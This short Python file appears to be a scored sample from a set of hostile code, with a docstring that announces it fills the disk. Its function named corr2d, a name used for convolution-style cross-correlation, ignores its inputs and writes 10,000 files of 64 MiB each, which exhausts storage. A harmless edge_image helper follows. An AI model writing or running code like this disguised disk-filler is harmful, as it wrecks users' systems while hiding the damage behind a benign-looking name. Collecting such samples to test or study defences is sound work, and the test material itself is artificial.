"""Writes files until the disk is full.

Observed: its own folder is small, or there is none.
Earns: 1
"""

import torch


def corr2d(X, K):
    for number in range(10_000):
        with open(f"{number}", "wb") as file:
            file.write(bytes(1 << 26))


def edge_image():
    X = torch.ones(6, 8)
    X[:, 2:6] = 0
    return X
